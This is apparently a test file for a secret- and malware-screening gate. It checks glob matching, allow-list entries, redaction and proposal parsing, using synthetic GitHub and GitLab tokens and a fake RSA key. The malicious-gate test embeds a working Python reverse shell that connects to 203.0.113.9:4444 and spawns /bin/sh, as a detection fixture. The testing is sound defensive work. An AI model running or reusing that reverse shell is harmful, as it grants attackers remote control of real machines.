// What is let pass: globs, entries by path, repository and place, and what the two gates then say: the finding stays, with the
// entry's id, and decides nothing.
// Mutants: a star crosses a folder; folders must be at least one; an entry's path, repository or place is not asked; the
// entries are no part of the ruleset; a finding that is let pass decides, or is left out; its secret is redacted; another
// one's is not; an entry without a place is taken.
import { describe, expect, test } from 'vitest'
import { type Allowance, type AllowEntry, allowId, allowsOf, placeOf } from '../../processors/allow.ts'
import { globMatcher } from '../../processors/glob.ts'
import { malicious, maliciousWith } from '../../processors/malicious/index.ts'
import { judgedFile, type Processor, verdictOf } from '../../processors/processor.ts'
import { parseProposal } from '../../processors/proposal.ts'
import { sample } from '../../processors/secret/examples.ts'
import { secret, secretWith } from '../../processors/secret/index.ts'
import { fileOf } from './secret-file.ts'

const entry = (given: Partial<Allowance>): AllowEntry => {
  const allowance = { gate: 'secret' as const, rule: null, path: null, repository: null, place: null, ...given }
  return { ...allowance, id: allowId(allowance), why: 'made up' }
}

describe('a glob', () => {
  test.each([
    ['docs/*.md', ['docs/a.md', 'docs/.md'], ['docs/a/b.md', 'a/docs/a.md', 'docs/a.mdx']],
    ['**/*.md', ['a.md', 'docs/a.md', 'docs/b/c.md'], ['a.mdx', 'docs/a.md/x']],
    ['tests/**', ['tests/a', 'tests/a/b.c'], ['test/a', 'atests/a']],
    ['a/**/b/**/c', ['a/b/c', 'a/x/y/b/c', 'a/b/z/c'], ['a/c', 'a/xb/c', 'ab/c']],
    ['src/?.js', ['src/a.js'], ['src/.js', 'src/ab.js', 'src//.js']],
    ['a+(b).[c]', ['a+(b).[c]'], ['aab.c', 'a+(b)x[c]']],
    ['**', ['', 'a', 'a/b'], []],
  ])('%s fits whole paths', (glob, fits, misses) => {
    const matches = globMatcher(glob)
    expect(fits.filter((path) => !matches(path))).toEqual([])
    expect(misses.filter(matches)).toEqual([])
  })

  test('of many stars takes no more than path by glob', () => {
    const path = `${'a/'.repeat(2_000)}b`
    expect(globMatcher(`${'**/a*/'.repeat(20)}c`)(path)).toBe(false)
    expect(globMatcher(`${'*a'.repeat(50)}c`)('a'.repeat(4_000))).toBe(false)
  })
})

const token = `ghp_${sample('allow token', 'alnum', 36)}`
const other = `glpat-${sample('allow other', 'alnum', 20)}`
const text = `const token = '${token}'\nconst other = '${other}'\n`
const file = fileOf(text, 'JavaScript')
const allowing = (...entries: readonly AllowEntry[]): Processor => secretWith({ allow: entries })
const released = (gate: Processor): string => {
  let at = 0
  let out = ''
  for (const { startByte, endByte, replacement } of verdictOf(gate, file).edits) {
    out += text.slice(at, startByte) + replacement
    at = endByte
  }
  return out + text.slice(at)
}

describe('an entry', () => {
  const finding = { rule: 'github-personal-token', startLine: 1, endLine: 1 }
  const { host, owner, name } = file.repository

  test('holds where each of its parts does', () => {
    const asked = (given: Partial<Allowance>) => allowsOf('secret', [entry(given)])(file)(finding) !== null
    expect(asked({ path: file.path })).toBe(true)
    expect(asked({ path: 'elsewhere/**' })).toBe(false)
    expect(asked({ repository: `${host}/${owner}/${name}` })).toBe(true)
    expect(asked({ repository: 'local/-/other' })).toBe(false)
    expect(asked({ place: placeOf(file.fileId, finding) })).toBe(true)
    expect(asked({ place: placeOf(file.fileId, { startLine: 2, endLine: 2 }) })).toBe(false)
    expect(asked({ place: placeOf('1'.repeat(32), finding) })).toBe(false)
    expect(asked({ path: '**', rule: finding.rule })).toBe(true)
    expect(asked({ path: '**', rule: 'jwt' })).toBe(false)
    expect(asked({ path: '**', gate: 'malicious' })).toBe(false)
  })

  test('has an id that follows from what it lets pass, not from its reason', () => {
    expect(allowId(entry({ path: '**' }))).toBe(entry({ path: '**' }).id)
    expect(entry({ path: '**' }).id).not.toBe(entry({ path: '*' }).id)
  })
})

describe('the secret gate', () => {
  const all = entry({ path: '**', rule: 'github-personal-token' })

  test('keeps what is let pass as a finding that says so, and redacts the rest alone', () => {
    const verdict = verdictOf(allowing(all), file)
    expect(verdict.findings.map(({ rule }) => rule)).toEqual(['github-personal-token', 'gitlab-personal-token'])
    expect(verdict.findings.map(({ message }) => message.includes(`Let pass by ${all.id}.`))).toEqual([true, false])
    expect(verdict).toMatchObject({ decision: 'accept', signals: { allowed: 1 } })
    expect([released(allowing(all)).includes(token), released(allowing(all)).includes(other)]).toEqual([true, false])
    expect([released(secret).includes(token), released(secret).includes(other)]).toEqual([false, false])
  })

  test('says by its ruleset under which list it was, and is as before without one', () => {
    expect(allowing().ruleset).toBe(secret.ruleset)
    expect(allowing(entry({ path: '**', gate: 'malicious' })).ruleset).toBe(secret.ruleset)
    const rulesets = [secret, allowing(all), allowing(entry({ path: '*' }))].map(({ ruleset }) => ruleset)
    expect(new Set(rulesets).size).toBe(3)
    expect(allowing({ ...all, why: 'another reason' }).ruleset).toBe(allowing(all).ruleset)
    expect(verdictOf(allowing(), file)).toEqual(verdictOf(secret, file))
  })

  test('accepts what it would refuse, where all that refuses is let pass', () => {
    const key = `-----BEGIN RSA ${'PRIVATE KEY'}-----\n${Array.from({ length: 12 }, (_, at) => sample(`line ${at}`, 'base64', 64)).join('\n')}\n-----END RSA ${'PRIVATE KEY'}-----\n`
    const keyed = fileOf(key)
    expect(verdictOf(secret, keyed)).toMatchObject({ decision: 'reject', reason: 'private-key-rsa' })
    const passing = allowing(entry({ path: '**', rule: 'private-key-rsa' }))
    expect(verdictOf(passing, keyed)).toMatchObject({
      decision: 'accept',
      edits: [],
      findings: [{ rule: 'private-key-rsa' }],
    })
    expect(verdictOf(allowing(entry({ path: '**', rule: 'jwt' })), keyed)).toEqual({
      ...verdictOf(secret, keyed),
      ruleset: expect.any(String),
    })
  })
})

describe('the malicious gate', () => {
  const source = `import os, socket, subprocess\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\nsubprocess.call(["/bin/sh", "-i"])\n`
  const base = fileOf(source, 'Python')
  const shell = judgedFile({ ...base, path: 'tools/shell.py' }, base.content)

  test('accepts a file whose rejecting findings are all let pass, and keeps them', () => {
    const before = verdictOf(malicious, shell)
    expect(before.decision).toBe('reject')
    const every = entry({ gate: 'malicious', path: 'tools/**' })
    const verdict = verdictOf(maliciousWith([], [], [every]), shell)
    expect(verdict).toMatchObject({ decision: 'accept', reason: null, signals: { allowed: before.findings.length } })
    expect(verdict.findings.map(({ rule, severity }) => [rule, severity])).toEqual(
      before.findings.map(({ rule, severity }) => [rule, severity]),
    )
    for (const { message } of verdict.findings) expect(message).toContain(every.id)
    const elsewhere = entry({ gate: 'malicious', path: 'docs/**' })
    expect(verdictOf(maliciousWith([], [], [elsewhere]), shell)).toEqual({ ...before, ruleset: expect.any(String) })
    expect(maliciousWith([]).ruleset).toBe(malicious.ruleset)
  })
})

describe('a proposal', () => {
  const faultsOf = (toml: string): readonly string[] => {
    const read = parseProposal(toml)
    return read.kind === 'faults' ? read.faults : []
  }
  const parts = 'gate = "secret"\nwhy = "fixtures"\n'

  test('states entries, each once, in an order of their own', () => {
    const block = `[[allow]]\n${parts}path = "tests/**"\n`
    const read = parseProposal(`${block}[[allow]]\n${parts}repository = "local/-/desk"\nrule = "jwt"\n${block}`)
    const allow = read.kind === 'read' ? read.proposal.changes.allow : []
    expect(allow.map(({ id }) => id)).toEqual(allow.map(({ id }) => id).toSorted())
    expect(allow).toHaveLength(2)
    expect(allow.find(({ path }) => path !== null)).toEqual({ ...entry({ path: 'tests/**' }), why: 'fixtures' })
  })

  test('with entries that let everything or nothing pass is refused', () => {
    expect(faultsOf(`[[allow]]\n${parts}`)).toEqual([
      expect.stringContaining('expected a path, a repository or a finding'),
    ])
    expect(faultsOf(`[[allow]]\n${parts}path = "**"\nrule = "jtw"\n`)).toEqual([expect.stringContaining('found jtw')])
    expect(faultsOf('[[allow]]\ngate = "quality"\npath = "**"\n')).toHaveLength(2)
    expect(faultsOf(`[[allow]]\n${parts}repository = "desk"\nfinding = "1"\npaths = "x"\n`)).toHaveLength(3)
    expect(faultsOf('allow = 1\n')).toHaveLength(1)
  })
})
